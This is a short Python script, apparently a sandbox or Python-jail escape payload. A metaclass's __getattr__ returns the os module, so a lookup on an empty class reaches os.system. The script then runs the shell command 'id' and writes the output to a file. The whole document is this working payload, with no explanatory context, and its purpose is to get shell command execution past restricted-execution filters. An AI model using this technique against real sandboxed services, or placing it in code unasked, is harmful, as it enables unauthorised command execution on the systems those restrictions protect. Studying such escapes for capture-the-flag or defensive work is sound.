import typing
class M(type):
    def __getattr__(cls, n):
        import os
        return os
class A(metaclass=M):
    pass
A.anything.system("id>pf")
